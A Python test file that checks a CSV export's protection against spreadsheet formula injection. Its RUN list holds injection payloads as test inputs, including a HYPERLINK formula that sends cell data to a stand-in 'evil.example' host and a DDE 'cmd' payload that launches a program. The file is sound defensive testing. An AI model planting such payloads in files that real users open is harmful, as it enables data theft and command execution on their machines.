"""Texts that a spreadsheet would run, in everything that is written as CSV."""

import csv
import io

import pyarrow as pa
import pytest

from collector.archive import columns, output
from collector.base.spreadsheet import escape_formula
from collector.web.tables import DataTable, encode

RUN = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\t삼성전자",
    "＝1+1",
    "-",
    "+",
    "-1.5.2",
    "--1",
    "- 1",
]
LEFT = [
    "삼성전자",
    "005930",
    "-1.5",
    "+0.3",
    "-12",
    "-1e-5",
    "-infinity",
    "",
    "a=b",
    "1-2",
    "'=1",
    "KODEX 200",
    "(-1)",
]


@pytest.mark.parametrize("text", RUN)
def test_a_text_that_would_be_run_is_quoted(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("value", [*LEFT, -1, -1.5, None, True], ids=repr)
def test_everything_else_stays(value):
    assert escape_formula(value) == value


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_the_pages_csv_quotes_formulas_and_leaves_numbers():
    table = DataTable(("name", "change"), [(text, -1.5) for text in (*RUN, *LEFT)])
    lines = read(encode(table, "csv"))[1:]
    assert lines == [[str(escape_formula(text)), "-1.5"] for text in (*RUN, *LEFT)]


def test_json_holds_every_text_as_it_came():
    assert b'"=1+1"' in encode(DataTable(("name",), [("=1+1",)]), "json")


def test_an_exports_csv_quotes_formulas_and_leaves_numbers():
    texts = [*RUN, *LEFT]
    values = {
        column.name: pa.array([None] * len(texts), column.type)
        for column in columns.COLUMNS
        if column.name not in (*columns.TEXTS, "change")
    }
    values |= {name: pa.array(texts, pa.string()) for name in columns.TEXTS}
    values["change"] = pa.array([-15] * len(texts), pa.int32())
    stream = io.BytesIO()
    with output.to_stream("csv", stream) as rows:
        rows.write(pa.table([values[c.name] for c in columns.COLUMNS], schema=columns.schema()))
    head, *lines = read(stream.getvalue())
    assert [line[head.index("name")] for line in lines] == [escape_formula(text) for text in texts]
    assert {line[head.index("change")] for line in lines} == {"-15"}
